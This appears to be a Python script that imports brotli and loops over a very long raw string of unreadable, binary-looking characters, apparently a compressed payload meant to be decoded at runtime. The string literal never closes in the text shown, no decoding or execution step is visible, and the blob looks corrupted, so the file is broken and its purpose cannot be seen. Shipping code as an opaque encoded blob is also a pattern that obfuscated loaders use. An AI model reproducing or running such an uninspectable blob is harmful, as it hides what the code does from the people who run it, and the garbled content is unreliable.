import brotli
n=a=0;b=1
for c in r'''igN߁=VDkڕj){/2МV6->5g'!~f11',^o4kMtڎ/NTuzAȶNiǐ3%"7L<=Qh2zGւ͢%fSg
R1R+M(Az	NMBjgD'Q"XA2uQm&ywC4Rzނ955ZJKS";~o+,8E{	#O4euѢ{0e$6V=%,'۞BJN;2yy63iTbhCRFW7y{ųLu{#C^<(b/t"ߙQDVHtO%ɓc={p-[o\mHGe\2&0'q#m-=ݕWنWƚTb3ԉ[8pK9T_"%~x.$wT>Guξ<"Lw#oxBQІ'WfiR^(ӬѼBսN~o4?CZf 7̬L,gتٝuyfD6(Dg8Czա#hrĦyjWr@	Gӫ=eU6C#S,?"{.8#Y	 7X+mvFF-ť'qW#.}PTS5Fc&^BŘB21sBOS$WIQ(:NAxp;~s9AE&ÐOZCER=0|ԪN]aF:;teAhq0}¤,[ءP{A?@NɅax~*M@'`iyA|f֗ǾԋV$߷sXcscdsMtrt[͙#a!%V	fՍUSěpL3F%Ŧ+{o,)*~2P34(Cq4_ž΋/a*o_`B(Oyk	i|tMw>oGASVQ܈}oGVbWo֡a8QR(	cŠ5DQnǼi!3!@r_p2Xp96;:4:S>Rg;,*_K̐HCxͥc_؉0ނ9#w٠|G){'2&A]܇uoPY2e8?<~>#BR~4^DgHnb011a|ٍ3pS[>yAW~_n'w8OE[ES>y#C[@%Vm@Ip5/e{.&φ6N"̵
vCZz\*8ބѠM7ţ-x*wvhէ3vSP8߭nQLI1*ĕ'A{?DhqRˀ
I6k$Øoh7mU(5eɆBŧp+$*ު
p;RqY'^#6ht-۱>"ß$m5To_4Ck׶RAfbg6BY2ٯ`aΠW#(_q*[<^
-<ަځvt̜>ހiC:̶	ǀ2B<Hg(zu3ֻ/{cѰ֥G5tk(4^=M(VW=d#GIٝyDcjϧJi?;҇;Vq-g_zr<Pz++NMWUԙ!|vtYԷDbף}DT/
=a<4sm=OsTNp`jy`aXջ01&TRYSޗ(g,SӇB#/(,ݠo\JiZ	˪NZE(Ǵ0͏EnfWOsڣ/2)-@mFI<-`=H!eeбm\ak5.{9a
/I6CY-קlHcLi5߶MFS,ap}\uS_'X6iS܂|ל.P¥I5,1e)UhB ȓ~ȸ%N'NH|DJA˗BW3FntȻ{u)XڜA9ņM|^0!,32H`PGnL_Xs2EQ;K>?bU?'ط[iTaaxZ@+nƧrPA&ig]L#iB-L̘ҥ+jL`ISiV<`Ai/hicOKƘ=Ҁ5_La~#HFvؤ&OIY2U5a>ںPۏHpa-eIXjC[7f^MО`"7lWmѭdEf}//McImxmm۪i-ӈ|dY|bؓ9">ֈp˓ xDCh),xOmfk޷DI߻r?S8'{X@eL$Ѻ5'?@*#fPղޙ՗-ڹm$I:eFΔk\nZsu"qЏCdJ+KUMĪ-~\7,طa0#yr"sRvK3@ܢÌ܂mZTfg\ߴݕ-ʆ<tDRY}>d3aHP׏zĝvj+ .o׮O{44=#71ʿJxS~y1H4Wl8Ϊ%=<x'|>^cLŨv4-:˸@ <8dܓԊ%Crp8hQJUܺ1?_WP{lո%)l Ӧ# _Y	?tP%j~XAXBkٓԎʾ%9TZ{,>N]	[=߯VcBPdBƤ#f]O ѱ#~=ʉ!}ZlQoP~#_N4GѸߛ!{ʩy:='8Dj#7xޗI iޓҳ:(1cbx	&AR&XLS'BKfy}މۤ-=:l5Rv(Lvtyc!U[{i)aQFޖ;#@)sJYi)s΁yxw̥(@^]˩xZ+Պ &\Pz\C]~wN-`;AVjI
A;m@YA/TT8"GS[TkԿ,Ȳؾ=G WM:ɥc{޻7w[ēRDbr=,ϖ(X(۲v[ՠ$6<ȯ14ȟ	==&|OfV>?ӭ1jiF%*BL3oU'fnz4/Mۛ%-p=PY[̔Vq0KHFP"HOZT)h^`+:FcƺpS5gA,"xlwv_%|yH2	ؖԕt5xJ4d-{eMTW{ɖ(2j7.<iE[AP*{Uڐ͜'33+z}}۽ncƅΔw%ð¸/h{>+Mȭ$/%j3tnXW5ߚ'e<W3GÔQB5mlҞR~ԃ~Uh;O¤WusZvBp"߱_޲a"!vS͗/$@vt;a£E~/C(nHKßi0z+L]HEΒu.Ĭŋ{jo5_ʸ3.V˿`rY1uN=j߭E%*̂cDc:C_Maޛ8j75wۄG+V~xJ`Td:P\xUN2Uf!Yא4x0*Cfu|E9:gB/J78%!R5>l\dqc2U'ԹAj5Rk;r}9@Q!.]H$ֱ*Qh56w>hQ#$np^$o&U	_
]^*P̨?ʪĔ?%Q]_#^>).~=-y,tEյ˲('_ԚFì՝S6hۙ%cMҁ:ƀ
R=vVʅLO՚q)"bϞ"=tA'#}M,þ/,Ӌߪܻ$̄ߑ-Eر*ѯxW"pp+ϱG]g"ҢFxě
/[+nztfA
BF2STmpaq\Z3C&nص)}abLޓ/ռXw˲CG6W!BHHfvNZx_a=T-.haV]D:@YHarhŘoB,(t1q ޕRU%ti2$]%*K߶޴`4QEYuDFfHӓ.ǫ=&gClpU.˺Ӓ/%V^ϰs1}(kRRD,9*9M^FMOs
S4x/)
2e_4>.&H.3{7($F!}kQMhC-VИdR`MDiSڭC\%t[kdwLGn:sm;;*ROEkF_ɼ[}@+` "|7ܕBۻelZ,+!GHZ)l<d 	anIk;ش*Xu^N}^RZˆ:f˔Y3LQb^Bm	X`vz6-"P 9@v+U@1מDllJd׍A/}@g1 xjW@͌vA2"@ro1wJsSAK9,i+rdS,-ю"d7h$n}y°8Z2KGv:"9pw\A6Y/%n<tmP hZ<\\@1i1TiX+FzjR$ɥEKս<])j/dGc;%ɐU8ӷZ':0F۹_UDд*lRg2maGU9:λ,ڋ^,4!@Xa9֮e1fHYǮi3'
lk&I)CrJ*Y#m֜4/s(bepҭ^-;	R20̤tGzf7T@i\4ŇDk7Tք̙Hs/ԥKwvߦэ>2J/<ck(/0.9?tpэ;@R:sFщHsƮkN=Npڙ}W׭uc]m\_@:e,~ jV	z2L]r7йpeޢ>30k
ȡD>BiͣoGؾ<Șq7UD"rwۥ#1d
hp˱IDZН56`%ܱ	^]֙΂\Q`Mbzgx&|<,$<r!Li:ؓWl'Zā5]VasZqb3!Tk,j.>\P2Ԕ̝{G8_mQ̽
m;El bfcNC:P
$WtuwxFJ	<}ݿɘ~08JUt{OYȜ0QMPxFEW-j;@J8T:";;޿@ߎҨxۨjvg5@mQIepnN}<b׬̭	#cqzPM}fż8x5O=$pgvr@|xHE \7pt-/T;>JWG;RTuPɜ^ǧ_̎athAw	yd?֯yUfۘB\j	KPw
I(!ȕCom
?Yɡ{P?<pz]])CW[X
ڶ z$c-\
bb@r"\ĿB?z+٦rmrg|?M-DkE2}naCܐJuXTE6e(ÌeÌ(Kt&֢tED"FT/
5/FcۋV]4ݼKRMH\U,XآtChф|X}NPz
d٩^lrEOucF=|B ~n$Yeyȵkm>@]5'ۿB?v 7[r:L!Įw:6ȟ7˵ԉ=FJ*T݌	'D~L"ÉT[åCK5X>c'+Ǫˇ؏]=3ێC_Ҫ$5;l> Ybuݡ2no!#^clzqDK7sqoCNR(SO:ؤlVËWs8n	Y88sk9 iiζ`ßS/esӇ/"ϥ24bWԕ'J5wV"ai1duѻw*s¿ÃRy/3i}?XyuQ]6ApwBtK*жFb(w
N':
^gj^Pm]3Hl:d|ukKL*w|!,Ǔ'S%+Nk8{7Dir&Հv,A=[/A,E)n(q>Cupk֚lSJ~ߥ=wo:Kے6m٘`; .ł(ܻU4+cJ_[Q
??#;@p3;8މz*`޻!X%]Ub_yb=vxLvjQx~f:keX]|^qܞRco"xsI^|Wh*&[=fYVHFu[W0p<y]j(;{}wdr^0˺Qy0GRׂ.iD(DTtc$z&Ihdz}t,-:'ʛE UJBߞ`UoС!V(i$$ ڶ~9`h1k	ع6WeT;}srwf_nuqV!~fݤrvdԖ^o-ݨi=lܲ`#n%*MZERX3،b.*q;+	GwҋDڅpSO"6x4>!!Xvywq+?aµF5wSx$,~Ui*ܘΊӊQӅ>3;_Hg5=>W
W?5ڴb'X'XKpej7Gh|8}!h~/A^~1wLV>őPw͋(])^prl&Sr8n(dѭv9#׻4%3_S7t,3VV@97Â|Ra>+0EƅtU.w`8?tW5Ťc?D=-l@P\HAOȉЈ\Uk̉HΪ.nC.~<`a~uǽum=cDLS׌qQk91W.""zbs{Cx+|XL?2׋xkIY<׬E;!><WlzR]s!1Hfo>?҂ŃbH7Xe-!'A0DVau_?TnΨxTZп=u.7':FK?s4f%ٞO`ƪמEiE
Քwe ؂їxx"9&nloXBQвӜh(G`ؼ'E{;X\ؾl.gY]ĶkJ/rd|,_<sY69Ǣ-֐ \Y"uofj#{QSF-%=\?=D	
X';p:'o5IafD@0q(.klSGZNH^9/ݡ-զ
InNW* <+Esrt5T:\.Oft#e}"+;5I'c&!BjʵZe<nhem1w"Y-DsjUO6=TY?q >CLR~r, òF;(s1C^P*sz{RfXnb+>3ц~׆R,K٥)M:l~ƽ4g
Db-=y#a~εLېM*`8jCٖ$P`/o-ГzKG*\s'w$l/{M#e%r-A1183w
1VPȏi9˕T7rV
۰h]ԃ {9xg:[qIg%Z\zV"#RޏVfմeRȫ[W{=K"d+ڱcݤjý!Xį_ސJ<@qP9ª	3#>-&<GIN=2ԣÃң7ejuٔtyClxyVjY@8?ԇEXß#֟sw$K!XքH|_<Jh~=PiCNX;Βh4w"}˷fmO]Ȗ|l]0s([%3Tjkj\=KiLZ9(Wz)sQCjZέ,8'<#[h#&RAV\9ه (ݤFDv)]0xHΗ9ؙ"	W$m~O.k[hf{M;]-3EƥõjCy~E:E-24R^v^9Pg߫q<d`O8<]^H!tQIDczؚڽy?SF&H>re&DԚthZ15VKtg1޻:NI'?3xt)eX+Fp L8ՖuUm+O1vZW/W-vҁ:U&%Z>v7*Ӏ"
DbCֆ&Un$pna4Ϩi:a
Sٹt5~֨vq.*>Njl@իXA;;n0 LHx0ӂLЮ8PS 4A5	,zfp߲YO(yRl/zu^|EaR{`:DU!J8
=b(qߝ<b,pEŔЍ5+jGf@<7!f=ɭ nSqӒb9ob\@}2\b>c:%{sVn'C:L	:f=!ؐAϵ΁ZНе<OPLHnK?xDO{6*:-fČ(9li8IO@+5ɰŎ=
6+vfKk7mnI|?ߞ3Ȣ/b:Z!4?ۭn1% b%Ĺ@	
fs ffLS90:s>yhd(?W36GFAgƳhjSv-p&ܙw&JO;IAcnϭxXdq_HǂZǥm94L3 O,+$rNg`SUa>_ϛCIhէkۭmadC[nkt|;Uܐ2e[%ʼЭ(iWb0@
ϡk3Jؤmq@WΪc;l

mADjZ3j%&ȫzq'Ŏ
1`v)ho:ܓh)y1!`G{R5v5fQ&sU1T!%ùmô1|dr
	8w9i'rr|hujl\;L/l	R{/P+h$RW6'ofF#jF_Ui.miǖzauJj'+:jOx$HF2H Qn׍bw><a_?A.uƫRВi#ߤ{WA8NRWjna؅!Ǧp{<tXUUD9X'LzIش5Ɔ÷?),5JYwӦ+[#[Hdyϸ[{@sU5Ͻmv{9تQxTIF~MߝM$4kV.*5i;F3&:;s/'lhCy.ݖky<^:,a22Z#6y|4+u`)G`@T,z<E[LXaۙX*0_$ڇx}Q)VLO]
%I4dX|Ğ>ҙ.A]Y'm!-E[2̬f>*?#ׂn;Ml>(W.X5kYװp
5H~|I|di?Rջs77X}	/%޹EZZYn[ֿd5G.-^F*n4{e(I}uѲx̃ðF(BPč.DUZF??h{n$6)X&/8{ǉUY9Uw^{ݷӝ]{ro\mߒs[ժA{lZ"rK/͖)p|6sSQ6RhX-ҿ+İY8D*']qx?͈U5ۭQZx)3=hʩmRAnyAxFABXZ";TѭTW=-V˟.c۟ό(#r?6#;եo&}L́\Kٱ4׼)AcTͥuƋ5mB{5*BމQ>+pwmSy=@o~b\Yu[?#G;]Rv2&pTؠs$XkVQO(O;&`NQP
VM׍[*ny	V	ӖCA1DBT21-ś0N"g}9<V+u'BnJ5V
4^фjaF;Nhҋȥˇ5ES]9yԧ"hwKϧeJjk~|5Ý<WۣXHE#9 pK<aÝ̬LܑrЁnqxe;-TH`nn_:t`"V]2yU0P&ZEHX
ے"	(lDעn ,WUICĬ1ip-~\sUX=5S,aƈsB(w}1D<6.RPڿ\а+7̢u@S9޷tuOVOi~_|a,aҢUʸmW95ޙvgx-$8͊cjP%)iF}3f4<܇~TK)6Zfajt-hLu|VűxڒEŖS80WpXCg2orAǩ|>}9Ӂr|cy)d<y|ï׌ғ8j
Bo7+f\Pަ(&@,\Xßzy?Lc/6Ä=b@<4ٮ]-Cܻ="V}aao`%tʓ'!=ʖ#qYK	ښ}ǫ(F٨'Dg0ZBs/kļSæm̓,>!QƤ T~zcC#et(xC<YĒО#	~xm|EWՎg1)qzm3
|O
/a(u!	IP$ÒeZtܝ'|G;'=x:JNoCTE`y\_uG>]WZX*ϰC7JȶI*O[(}&<VӺb}i4I{_Asߺ>۔ؾa$WByҜpaLT?lo_4pطmM;ʚڲ2u(no^!ÃIokw#V].\)s3#arM>͜|Q44K<ׇeP-Z{[ۡH V'mP!wf:ic*{kv
r&үōyj[Z:qfȘ_U&4quɭ"=$e,m8[U3gv)UI؈
ZTU;2
ݑYQ`Sҹ~..e̀Fɪ`q r5
AtUL!xS!;*̽&ɠdѲ:?zϭ.{Zt%կ{L|=؎J[\CBiW}R^G9(*Q|g\'7Ʊg|?J,WVsΞ~@ƽ+HB3ff{Ǧjqsu
( ,D	{ӸAHhIUkޅ+~ފr'57dgڛ[$Imn׉'VsjC@lvD$o~C~&gԆ1I[t^]
ҙ6d8tV(
qw{ iޟ5cZU\Mn-9h/Jݣ7Z{d@S_rG^<RhǏEU2+9Ց7*Hųߌ$h $]&@s%g|;M@փ=aE7Q]L"s:eBQAT,Py	|^s#W.@sF$ǴɎ<J~sWBf0$ϥ$ԍtY7j`&Z]/roCr(@&*t`~OjkIĽO2[.%ViɘHI=ce1O!*(u{m/"	%NCPf	rai	_mMEN)GzZ<,;	SE9֭Æfu9xi{#R˫#=rvO%[jfO:	U֠7?r|xbWUɛ#Ǌmmx͚4?$rsM,7[lyu-}$Z'tQ=:=+5g~!jATg\!ڶ1Lx"Ϯe=ۆQfeyˢ3%GجW&tXf'~#Kn\yg&cͣd`# ưfrJ:	}n2R2fm׀hMlun/& QnÖ%\ML\/OIkWsX|3.d:пvHTc P,Zx[w0nrʗiWZlA![D-e B!J	7gC?|]:ݥ4M59RHt8\IyȐˤ?AҠ]bVۄdؽ+Ėɪ	IӸ;3ޥC	Զ `7?c{>d,s3O1i(S;F\_IgXyuUN{r54tVh2c{Fϩ%=ݿDhw5_K@0*E"yfŷ\EӋ!ZGlK͓iWl:2=وa\^dŵůXr"M(!Lc"o4sgݕPho5@'wgv=֫"ݔ[zquet#ˑIu#aB<"&NzJ$#MOP3;r k<uw`ĜQ9DYw֕rnkϨv->wMSĄ&-SQ¥ܫaNiȥbrs\kD(ņ9'iŉQ,uE߄QE#I-9,="#'Եj|c|qhʙg;ź9i+"̬8x/("0έO|mLTMaw%cX{?m70~;E kGǟϼ{e%;+լ,Y=ʭ{Q:m>xGfAGdeu*ǜR4^(i78nuHвӜ)]tp/j/vk[7Y\e!AҨWAAKY~2Ȭ'C:yOV
$-Y60
(pQKUg<H`>͇~39Ϊl;[H8K{ikAoͭ/;|?<{2< +uwf~2PFwRk)כ>V΍~(9;xI@ǘ"5nXT!]ǣR$,P'FåT".SqMv"ƒ|j<SH"KzOpNjz<%Գf[v}l0x,\";,]<bup=g9di7m>k6Xm`^V:5<Ö]:iBUJ`!<}ا;Wz.;f=^?d}H{Ľ0#-F`-xȀ
V]~ʎ%.E:/ȳ!,[(kg"q?AX=>t'eSωokАol6bsGj-'}'dN^6۷3s\Mt_(.rK"Ƚ	cE|cYGǹ~F!YE\U|*@<O}G_~LʹFod|K}'8D(]?d?VWr/}Im=eҽ1K<ܗAˎ&XEMFs0\ȝh1d

: 3#zwr2|HVMha&`HIGdnwxJá׈I)Y4݊HC̤v4X?Ćć&ҬM1)ݼ΅ɵ)~k~?Ҕk([:AO.X37j=$?ߡWߵq,0aSaSh0DӯG][ZoDL-+";PrJ^^SȽ-gscuѢgE1ޡΫ){"p#/G0Tg~Eu(H3X~]sZCZxsy;f&*ڸM>mCU->U+F2b81Z&(jX8ȫJK/<}z/ y~ۦͰk/G\3ab_He<~/b[!Cd*Ѐ|JUkwL	RgƘJ*ʐ!peCb}0Uƣ0QoQɈh-8pXfǓ|$[-h$u/RS>!)&A۞i=-jd2k:2͌$cGѠkvuu̟T
y*<1OL=ם`є>E5G4N`F]/Aq1qrwV3nE@Ny{\yP<\mڙj:eɻSNol@n
ƃ<&hWHI Zoo3W̗Qu`YZ͏:[2}k-eSM$AGEfiڛ;1*G~e-<>o(6O!%yTh`Ɩ<SWRp~jz&16ml=Ѓuў$x#]ݥj>v̵QDZ*IKĺG[(*OCڥeKx7cW_UW6Ì`ƪKFJcГHs}ߕbsK!*p[R?#ܺOԪg=x_߻fkɳm2>#SHQgJ]љފ6Liw͛S)xHm0JhBxe<֡sHR)?uzw25'M[5<b1Ʊ ƽ߁yƱ{8ۢ4 B	-3yȘAle:*r%FӔ^8՞X9m,şER@3mX+LйIFB{GUa^ɚtsEЕ;^Cב~%[^$#x܀YڝnA64D.6Vۆ٫"603H'¾
HɜXٳlJNҦZǮ\ו_@ƪ_g88($"S)E]Wb)FxCIYʿ*[dkBg"KUȋϘ|XAY8^HG<*p3\E^vhT?H9QKoI%2ɡ60ֲbTFi,ߊm*o@ϋa*ŋOjKʹK/
m:۱;zZdPQ\ݷ^VlNcfNLSĊϡ|ԅeIz6n+8+2x _J!U0Ǽg˿899ɗTnԥYD6
G;4֩A9./]j8mtݝ>eT'?U5! ,g>$$B`tدðTѣB׸&al)ƥy\*ƘNq%Ƈxfv!whv;N/Ez	Y)kbaehJwGʣ+OW@hgÓuh/͠"L$_y-"D>Ӂe4^b0܏Lm]q˽,8ͬexќ0}J*tRtH<FQN#vIH"{gP6
"sۗob֋V~ЃpsS{/R0BP2a[B*T9)%DIgY<q|U!LOHg_jZ[>oP54Tǽ,bti̾ؖd_^ep3[5CdX]wW)߂93K]vwF-/)u7ʇKѼ
^@S@xpel==#I xz_9DHype{H ]<ZT$&ggBuYX6ӒoLC$@tMNV!bîEГ4
K
]Ct960ɔD8E@ڰ81GkR?h`wA^i=eԷ|=F*V9&*WC7eĆJڅ5{j1޲'238wm?$ȷ*a˞DwtL[iV&Hԕ1uWY4?on ݾqr~JBfo6\QN|1Ð%M-9s39!G}OϚ+3ނŅ$Wikߌ,۞0QD:!&Qm5ymP˞B}Db,]q^*3(EVϙ/(œh<ido.ϕ_ZzV`сe\2)#*ۧZv5H~<IzY^o^\lŊ_Cb`-{H fR^@yaQe`~L؎gN_{̥ĶBP&N&sT$89	I	VĽʐwo:Ɗo}& ? V
1$ݵ~&'h1WPӞ@	JVi;ݯ<%,4QP6ƍo	و!Ԓ}¢ҾTs{f!x11t)DpFUb*{LZ|\tB[QCj:L6H܎z߇bddv"Ng;#
Z3IYЇ=onge:ĥw6ŗps{|p#d.Ѱx}-\!TWy )'	"
~H.xZӷ0xo"r_ 7
]Ş}
?8Ղ|e.=zy#b/[],+אeVl&(9_Ziא*&y͓
߸&_	`n,z#M|n9h	-2p$[ҧ9X>ƾClAĶY҂JQR#ۥ}NpwܫĲ,H"ץTI6cJ&vI|5WFBnA7B9BV9y:A*VS#ɴ̹OٶSOՖ~qϏKyyОU
(aYL]f3rhS#Ah;HВFܺ@8$<)ZWgۭa~7V<ڲ0yS<Hךy@j@I¤Ep-0Zqӭ7|TL-W-&Q.QhP#ո>'\F]H@%,̀˦|o8RǏz
g*To]F68i hsI2KD1)z~kJ}ADq܅u*^'éA8l:(i1h0Eb9 !YIrP[XquO"U,y%
=ht|g7>#&mǿ"dhKtKhֳ60>^0>:ƁaN޾>]Ⱥ(Y	mo3}XVyVO[<pƅ9؅mڨe!Q%sY8w4@W	1Gr7LM qʌ7	Ζ+J'Bܫ*Cܶ(wWL3p`]law%L"ÞiОQ@к$8%OtLѠ-S`ѹEqpGV,C8qѾ|ִ׎:3ΉL.'d1?QF˽R$Gċ
+r;@V?i)"1hl`'L2q©Ù$l>N<:1%UZϘv0m>ٯ2'pUϨWx,$
UroNpG/zK2.a^{WBܰ݀;d `XR$O+6ͺҺ43^gҚK]9d`?ZdFLc!w2#ڞJ	C&E_=Ox>qTd}{QX&uęy-%.;HЩE'O{V41,mk/o7d@A9k!$X)(|~tDoNu&ɗ#̕CrFʍ
_Ϫ̑ͩv<-~y|?^sM:ڛ{ЏpÚgd
@i~>"}r9LO0QσV#&a#|S}8=zB_߆%1uIRZh+{BLе.P͌

ˎK`[9^NJݘ>̀nQDvJ6a;~>/`mPjweqBCGF_1KJQbra9^ݤ18FRb5}ϸϬ1gjhϴ:շʧfNN
`AiYuNGSP%K?-Ւ
H
êĶ+ɺX֠zqڑ
xYbAw^8{@ٺBiƃ8o0]o.SH@#mAS͇sʟoUf*^HLSR,5u^ϐh,k'sGJB{>7J۬"tZ`o|QmiKehp[;.
ۻ@ysm/*܌n4@5	HI=nhqiXZzz"^>FqB]zzܨ^c=޷}}T1#pk,X2(7?tUbѺ/+C}kQlҭG^So<VPe.!3A#-GyUHk7N~̣$j`$dfqndrܠtZXb"?/y?ΜkM\]rJq="ɮ/Ѳ		zQ7N٥ر]-IŕyQjʼ!ENH'ݹ~T?R`;JBȱ$ŐִE%O?Zu^=;D}
d!76d1KưAiG2*H"-1|Ĳ+Θٗ{]x
7-\Y 
y';ͫ?+h5[pV_PL"36.:%awRK:I:7,D]VjR}%G S[HU66%vm#G< 7x-2U6ȯJ{*M> 'hp̝l:5n]MJFǧ/Ҩ y]/uZ%Wsl%eLlHMO.S5=q8OpnUľۺrG~6AM_OQˀܖ4İVL	1H`(7c>Fޕbp9_)ӂ$0ٞ5`ސ&0k	zti7r+Ѫ,<bѷAO:7Ϩ>-:lѻz}DX@%,O?ݳ$i!WdvBBаYΠҷ!#%{y4ֱr729& Vŧ,Lh!:	x6,Sf]Vnʹ)D8#VTu@~'6ݙBp^yRr:.ǥt!g[G
~x~oo`%Apu#j&$kjGB2\IDi'+]8!7׺+"s((Te]̀TB3uQCWغMgzǯy$Ȱ6]4Ѐf6FFx`TBΣhsg1pk4e+/#dc|jh>_DR$5mtZ=Jr;i`mP:zӟ%a\:]Hnۣjm{?qIw-ȜbyKcr~+qPI%ıpg?/+-4!@<iQef΂Tp&$DyS*^T՛ܰ3ƨ%lِ& WӉH"6ԺK	׋[x3ɴ
Ԓ֡@XΕTtNJmn	۠%N5997A`/
Uʥx~(}53XkZV\hjxs߼I:}|3?U1^$X<Aí&5#,R8ߒ_ٕ1<ǱIoH(]8m E*LFnlؑЛ-As=͔%SUqdw>jw~JEc.H=Y]ҦE)d?as-nOS]W$`Ae-zǾ%ar}NҚp5ف6Dʲ`&Пޛ<ZFe	_?Vlb"M3d`bҮ2R5&}|7@dO"dGk>֔Zؚ5NOuiL̴SwV<`5x@0ŗZ3ҩ[/eRâz2ɛ~#ʓPBK,:imZ
ߙJJPqH{ҴJ%6gQriaq`P>!BثW>,qA>	lhz =٘6hR*gبjoC.*ַ6.ѳƛhm:Qh",|yfgܨ=:=PP%q5	r}4N[qQƉ8%Zڇ Ni۝u\*v<ĝ]aٛ'VetrfUh`S}1/Ԅ)T?Z'&L`ڙtj ܜn%ͫk\=ߒ%"xd3299r0VBג~ԇq[lی&LD~ci=k_ўG#Ko);ۯGO-Щ: m3XHar8s3,*hߙPiL|!2^տ0\$Y'"Ш9>"/mU5Y4@0m(\"L/£/. x="ySn1Q0ӞZ;y_ל dKICQ!,gg:=(oM
:ɬ۱?w:Վa]x-tcgffu6Fk*!|y8_SVL	MXh:rtǁ̓ɤ:\5J6bAD14$g?ƉtMj$cޫϸ! J[/).oCc"aH*'֮9$Fapەghݸ4%>hG6U;g(.j9hc a;)~\Z46]HsFis:H5Ĉubiۊtdpl=
2	?`*LI
SgӻVR#_%$tHsJvD\ALH;9pkUϾo"Ŭ#r[Ʀ#0IHM
K)vI"~'ѲDnwK%;3ڿn	O,]י")ɭ>P2ʵBX!s?onjPy<#ۖYI{#^LUATM@}VӀ^iɎv~~{{ҽ=468/-~Ϲqvr8ǒ԰w7PN}aR9ŧMŐUu.bzkxC=ߠ~'M'AT}k1iR_<6Ҧ/Ug@%=s-BU>lf~DڽP7qج8wMjnz;XXN('
<EAܱfuJ>Ѷ_|:xa? 7e%bpO	}.O]&-4kɖˆ;:1T7m b_ߏk2Z݆jgYѤܿ0zPQ,9Krz&yfi[+/$gTKB5izz,')ăT`[
|м˩U8L*ZOVPS4n~k2DC{EːX͟A3HiQ1vtvszvo&,^lD/1~aN8أmwU`K9|\W	F=u?eq`cXDeBKA	MSo±G2fSPVȚEduͅQW22E1ƝO9Z_Ǐ|	\PB"#~C҈=Vr۴!;X,X=O1AF7+5#KdId13#}ȑ	Ciy	/{RDoJwIh2J2VNy/;NbBtpn	c	br^\<1r*ǀ3h6%YnMDndI+(}ך*s8~.rNֱ "Zq:$ޡԳڎTTű8!i<̷rʉZ	9ǯk?,AEDku|e"6u&'ɦ1{{uiװծ>&-pUZA`؃e܎[Wx_nH P9!nZҨ&m;2$a]pRXyG*n(Wk@	:H*TGdƫsܼR&PTCv*->F"V\ZII?QCGaL+3y͘2оF~e8cĒ{**r4*yLp=VXC$O}(9(X4FzIǶcDٓh>=#D2G<vp&C!̀=u$Yy^i/)E`,Ϋ]Gcv!h9ŷ5:.XA3~:0ü{lӰ߇BTh%kj{b4JS
EвNOt_UA@P6jy99Y\Zjcl9-"JbnȱdRV1\?ԛMŋs`Gid]/K,L]P.%+12Ѩɱu͓eUĀCf?#}5U=GC.5v%> s-\},0{
!{8Ow,g4/]E޹sڲ[҄ڳ|e[֍@ӈY_¼zCT?"ŖET0hgIX3Ѝi"V'blߝ|GPZ'1%[wu~߃<͉5Dvݟ868^88>ιtkM8ӴI7NpwPrcأG.olÑo/`֢^M+K_ ETj|ezl}vtx.l?gNM{^gDн8*iD\O`קT3W\GO{У1,Ї&Wm3_L%>o4d_O	Ar*ǑվF݀ ֮Vorf.FLs_=2u@yUwO͆.ټJ@j5MVW
,13<Bڂ(rȦ:FcQ]za7+RmpzϔA w+)T$ܸN1x'؝IEQ5-V*|xȸKoD*MIUʼ	ÐFs<ڜNӔRwXS[ÉtC}TV[`$nkX+vЮ8ԣ{
St{rzإ$SuX}fS[LJ@ӪilSz?.ާ'V˔c?kR}H]о)zXh]3ےb@;]q;ҌҢv^@%}ΡE!¬.3Oa5֕Q!?yCП)y?ָ0Y-<&Lf+˜<B{LܥgOrh~0OԢՇEY\e4A0%@ֵ3ۖƁ0bIWgEwGB9L@χ #ğH(2ӀLWVԎEX@&7>n)'e;cxj=cdD_G^HNP2SߥT-uָU#SJTWp9ҟ~aUڽ~JiCȳ7Ea	dkIy
X~}(Ȭˤh+sӖH1Tԋ8EIAVT).cKzkPı/IU;9ˏx{
JM/Άoq_ BpL>l6TkVi׻ѿµo1s+h7tա;{RX20Lxo]&={EK_f(Mv/Xi=?>d̷J:jQ·nE]IC`8"d<:F7d(Uy{8\9E^]:ĬYՉY݂Zpubٱ6t޷˸*qcx?zY[iDSD}:t,Dԛ'(U<dJQ5/ޕpm+Y	tjVWR_ T|͊̕ltLX.4[QTH+1_(v.B
zH,{/WQeI~&,BڼH8&ƯAmY*ĝճ÷0$H?3c)Gj>;2@)pU6B%`;fJBWpOvЕ&N;k/P1bA;BԮDXLW}4nއb\ʃhEڑe']9`ܪ?p#ش
$W35jg2d֚"ߦ8ۗ	'yc3.g_	sޢjiaqy_WR9פe?4տ~o#yPiݩ<etm+U8H!/%L+C^=Ly~=\uQ;]iݎ6b9Nѱտ.^'"4/^"e:ѶBQ֧@e:}+S;E۲<Mgq}Z3\})3!Im.g]2Ԣa3ڕ"BV^ŲTASUWgkd r4})K~hΕR ?;V~hl`\N*dA<:fA+܏X$"Hߛ\rGEOF^lIvκЩB/Gw"mvOq*`7Brհ٭bS,Ș{ֲ[]6ErNYuÕDvSbޚdiS7Y0fq·?I5(kGych6`hϋc9q(מ+2GoʣܾN}=sD&	%lRFmw!p*/]Pl.QY9+ԃUN"9xY<̵T`:vAW)r|zO.Lȍҧ\ۜ'pLK(NK2וѮX$ӐZMK]YO0I}n$K8o|dbW|2AOgzeV,׬z#њyeF67*ʂ71ރ	}DWHQjZ2lZmԍE֯[RĲ"n>ɂ/zݵs*iI(ٜo_Ӗi©;F!65ҟAjvhݧeǙe@ȱ[Ɉ,fAzZv5ͣ;nd^R@Q&	)7Ǐܮ~e|iSU7Ң:iXҝ[F,h+2)!mb#'\OL_Q\Ĉ*+uxÈ"@tPx8(:INdIpxЋ0/!֬*={4!2"
"K^(o,$JNG"]j,Ά:.FzL&	.ĴNh?rHH3^IP'5llV+/YwEeD!{ћjccm߹&s}1֒}$@/(4Ի\fH
%Lr"ˬ,BʶY~Jt[ʹ~2S۱4ӱ>ouF?п-R=?l1>ȼ!I43Au{˙OOtD~hur_UNۼۮT2+SŞ"<^sZ5Mf˵bdALs. HBj34(6Yۘޭ0*E*]W[S%Iȧ/xdgjG6mة ]dto˺Q#"Ċ7x֩i=l@׉#V'ϽShoS\ܴ}SLBFPc4?JP˱a1לrcHە/F0"hB*9
